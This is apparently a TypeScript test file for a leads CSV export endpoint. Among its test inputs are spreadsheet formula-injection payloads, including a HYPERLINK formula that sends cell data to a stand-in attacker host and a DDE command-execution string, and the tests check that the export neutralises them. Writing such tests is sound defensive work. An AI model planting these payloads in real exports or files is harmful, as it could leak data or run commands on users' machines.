import { parse } from 'csv-parse/sync'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { exportLeads } from '../../src/leads/export.ts'
import { startTestApp } from '../support/app.ts'
import { createLead, createTenant, type TestTenant } from '../support/factories.ts'
import { expectProblem } from '../support/security-suite.ts'
import { post } from './tenant.ts'

let app: FastifyInstance
let tenant: TestTenant

beforeAll(async () => {
  app = await startTestApp()
})

afterAll(() => app.close())

beforeEach(async () => {
  tenant = await createTenant(app)
})

const HEADER =
  'lead_id,name,email,other_emails,phone,other_phones,intent,status,source,notes,session_id,call_id,created_at,updated_at'

async function rows(query = ''): Promise<Record<string, string>[]> {
  const { body } = await tenant.send({ url: `/leads/export?${query}` })
  return parse(body, { bom: true, columns: true }) as Record<string, string>[]
}

describe('GET /leads/export', () => {
  it('is a file for spreadsheets, with the names of the fields', async () => {
    const response = await tenant.send({ url: '/leads/export' })
    expect(response.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': expect.stringMatching(/^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/),
      'cache-control': 'no-store',
    })
    expect(response.body).toBe(`\ufeff${HEADER}\r\n`)
  })

  it('quotes what must be quoted, and gives everything back', async () => {
    const notes = 'She said "mornings",\nand; semicolons\r\n\u{1F600} ünïcode'
    const id = await createLead(tenant, { name: 'Lovelace, Ada', email: 'ada@example.com', notes })
    await post(tenant, '/leads', { email: 'ada@example.com', phone: '+14155550100' })
    await post(tenant, '/leads', { email: 'ada@work.example', phone: '+14155550100' })
    expect(await rows()).toMatchObject([
      {
        lead_id: id,
        name: 'Lovelace, Ada',
        email: 'ada@example.com',
        other_emails: 'ada@work.example',
        phone: "'+14155550100",
        notes,
        status: 'new',
        source: 'api',
        intent: '',
      },
    ])
  })

  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '＝1+1',
    '＋1',
    '"=1+1',
  ])('never begins a cell like a formula: %s', async (text) => {
    await createLead(tenant, { name: text, intent: text, notes: text })
    const { body } = await tenant.send({ url: '/leads/export' })
    for (const [record] of [parse(body, { bom: true, from: 2 }) as string[][]])
      for (const cell of record ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
    const [row] = await rows('raw=true')
    expect(row).toMatchObject({ name: text, intent: text, notes: text })
  })

  it('adds no apostrophes with raw', async () => {
    await createLead(tenant, { phone: '+14155550100' })
    const { body } = await tenant.send({ url: '/leads/export?raw=true' })
    expect(body.startsWith(`${HEADER}\r\n`)).toBe(true)
    expect(body).toContain(',+14155550100,')
  })

  it('has the filters of the list', async () => {
    await createLead(tenant, { name: 'Ada' })
    await createLead(tenant, { name: 'Grace', status: 'won' })
    expect(await rows('status=won')).toMatchObject([{ name: 'Grace' }])
    expect(await rows('q=gra')).toMatchObject([{ name: 'Grace' }])
    expect(await rows('source=chat')).toEqual([])
    for (const query of ['status=old', 'raw=maybe', 'created_from=x'])
      expectProblem(await tenant.send({ url: `/leads/export?${query}` }), 400)
  })

  it('has every lead once, over its pages', async () => {
    const csv = ['email', ...Array.from({ length: 1_234 }, (_, n) => `lead-${n}@example.com`)].join('\n')
    expect((await post(tenant, '/leads/import', { csv })).json()).toMatchObject({ created: 1_234 })
    const exported = await rows()
    expect(exported).toHaveLength(1_234)
    expect(new Set(exported.map(({ email }) => email)).size).toBe(1_234)
    const ids = exported.map(({ lead_id: id }) => id!)
    expect(ids).toEqual(ids.toSorted().toReversed())
  })

  it('reads the next page when the reader has taken the one before, and none for a reader who is gone', async () => {
    const csv = ['email', ...Array.from({ length: 1_100 }, (_, n) => `lead-${n}@example.com`)].join('\n')
    expect((await post(tenant, '/leads/import', { csv })).statusCode).toBe(200)
    // A separate spy, because background work uses the app's database.
    const queries = vi.fn<typeof app.database.tenantOnce>(app.database.tenantOnce)
    const database = { ...app.database, tenantOnce: queries as typeof app.database.tenantOnce }
    const pages = exportLeads(database, tenant.tenantId, { raw: true })
    const made: number[] = []
    for (let page = 0; page < 3; page += 1) {
      await pages.next()
      made.push(queries.mock.calls.length)
    }
    await pages.return(undefined)
    expect(await pages.next()).toEqual({ done: true, value: undefined })
    expect([...made, queries.mock.calls.length]).toEqual([0, 1, 2, 2])
  })
})
